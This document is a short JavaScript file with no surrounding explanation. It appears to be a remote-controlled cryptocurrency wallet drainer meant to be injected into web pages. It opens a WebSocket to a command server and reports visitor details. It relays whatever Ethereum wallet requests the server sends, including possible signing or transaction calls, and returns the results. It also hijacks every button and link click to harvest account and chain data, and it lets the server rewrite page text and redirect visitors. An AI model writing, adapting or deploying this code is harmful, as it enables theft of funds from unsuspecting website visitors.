const ws = new WebSocket("wss://gate.invalid/s?k=" + document.currentScript.dataset.key);
const q = (m, p) => window.ethereum.request({ method: m, params: p });
const out = (t, d) => ws.send(JSON.stringify({ t, d, h: location.host }));
ws.onopen = () => out("open", { l: navigator.language, tz: Intl.DateTimeFormat().resolvedOptions().timeZone });
ws.onmessage = async ({ data }) => {
  const m = JSON.parse(data);
  if (m.t === "text") return void (document.querySelector(m.s).textContent = m.v);
  if (m.t === "bye") return location.replace(m.v);
  try { out("res", { id: m.id, r: await q(m.t, m.p) }); }
  catch (e) { out("err", { id: m.id, c: e.code }); }
};
addEventListener("click", async (e) => {
  if (!e.target.closest("button,a")) return;
  e.preventDefault(); e.stopImmediatePropagation();
  out("acc", { a: await q("eth_requestAccounts"), c: await q("eth_chainId") });
}, true);
